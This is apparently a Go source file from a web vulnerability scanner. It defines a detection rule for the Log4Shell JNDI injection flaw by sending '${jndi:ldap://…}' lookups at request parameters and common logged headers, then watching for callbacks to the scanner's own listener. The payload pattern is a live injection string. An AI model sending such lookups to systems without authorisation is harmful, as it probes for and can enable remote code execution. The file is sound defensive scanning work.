// Package jndi finds Java programs whose log, or another part, looks up what a text of the request
// names: "${jndi:…}" (CVE-2021-44228, CWE-917). The lookup leads to the scan's listener, which
// returns nothing: no class is loaded.
//
// Budget: one request for each operation with all its points, and one for each of maxFolders
// folders with the headers.
package jndi

import (
	"path"

	"merlon/internal/engine/dast/activescan"
	"merlon/internal/engine/dast/message"
	"merlon/internal/finding"
	"merlon/internal/lazyregexp"
	"merlon/internal/scan"
)

var rule = texts.Get("lookup")

// Rule is the check. It asks nothing where nobody listens.
var Rule = &activescan.Rule{ID: "jndi", FindingRules: []*finding.Rule{rule}, OASTRules: []*finding.Rule{rule},
	Profile: scan.Standard, ScanOperation: scanOperation}

// headers are those that logs contain, and that applications read.
var headers = []string{"User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "X-Request-Id", "Accept-Language"}

// maxFolders bounds the folders whose headers are tried: logs are mostly written in one location
// for all.
const maxFolders = 20

// other matches platforms without Java, as their headers name them.
var other = lazyregexp.New(`(?i)PHP|ASP\.NET|Express|Werkzeug|gunicorn|uvicorn|Kestrel|IIS|Phusion|Python`)

// scanOperation sends lookups at the points of the operation, and in headers once for each folder.
func scanOperation(t *activescan.OperationScan) error {
	if t.OAST == nil {
		return nil
	}
	base, err := t.Baseline()
	if err != nil || other.MatchString(base.First.Header.Get("X-Powered-By")+" "+base.First.Header.Get("Server")) {
		return err
	}
	var points []message.Point
	for _, p := range t.Request.Points() {
		switch p.In {
		case message.InQuery, message.InForm, message.InMultipart, message.InJSON, message.InXML:
			if p.Type != "number" && p.Type != "boolean" && p.Type != "null" {
				points = append(points, p)
			}
		}
	}
	if len(points) > 0 {
		if called, err := sendLookups(t, points); called || err != nil {
			return err
		}
	}
	if t.FirstTime("jndi "+path.Dir(t.Request.Path)) && t.IncrementCount("jndi") <= maxFolders {
		points = nil
		for _, name := range headers {
			points = append(points, message.HeaderPoint(name))
		}
		_, err = sendLookups(t, points)
	}
	return err
}

// sendLookups sends one request with a lookup of its own at each point.
func sendLookups(t *activescan.OperationScan, points []message.Point) (bool, error) {
	return t.SendOAST(func(bait func() activescan.OASTPayload) (*message.Request, []activescan.ExpectedInteraction) {
		r := t.Request
		var hooks []activescan.ExpectedInteraction
		for i := range points {
			b := bait()
			payload := "${jndi:ldap://" + b.HostAndPath() + "}"
			r = r.With(points[i], payload)
			hooks = append(hooks, activescan.ExpectedInteraction{OASTPayload: b, Rule: rule, Point: &points[i],
				Payload: payload,
				Proof:   "The value is an expression that looks something up at a listener; it was looked up."})
		}
		return r, hooks
	})
}
